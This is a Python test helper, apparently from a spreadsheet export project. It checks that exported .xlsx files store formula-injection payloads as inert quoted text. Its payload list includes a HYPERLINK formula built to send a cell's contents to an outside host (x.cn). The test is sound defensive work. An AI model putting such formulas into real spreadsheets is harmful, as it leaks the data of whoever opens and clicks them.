"""Opening an exported .xlsx as a spreadsheet program would, and the formula payloads."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook

from xianfeng.common.xlsx import looks_like_formula

HYPERLINK = '=HYPERLINK("http://x.cn/?d="&D3,"看")'
PAYLOADS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK]
# XML readers (Excel's too) turn a stored carriage return into a line feed; the writer
# does so itself, as its docstring says. Nothing else is changed, and no "'" is added.
AS_READ = {p: p.replace("\r", "\n") for p in PAYLOADS}
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def opened(content: bytes) -> dict[str, list[list[object]]]:
    """The workbook's cells by sheet, after checking that nothing in it is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                assert not FORMULA_ELEMENT.search(archive.read(name)), name
    wb = load_workbook(io.BytesIO(content))
    sheets = {}
    for ws in wb.worksheets:
        rows = []
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
                    assert cell.number_format == "@"
            rows.append([cell.value for cell in row])
        sheets[ws.title] = rows
    return sheets


def texts(sheets: dict[str, list[list[object]]]) -> set[object]:
    return {value for rows in sheets.values() for row in rows for value in row}


def assert_payloads_intact(content: bytes) -> dict[str, list[list[object]]]:
    sheets = opened(content)
    found = texts(sheets)
    for payload in PAYLOADS:
        assert AS_READ[payload] in found, payload
    return sheets
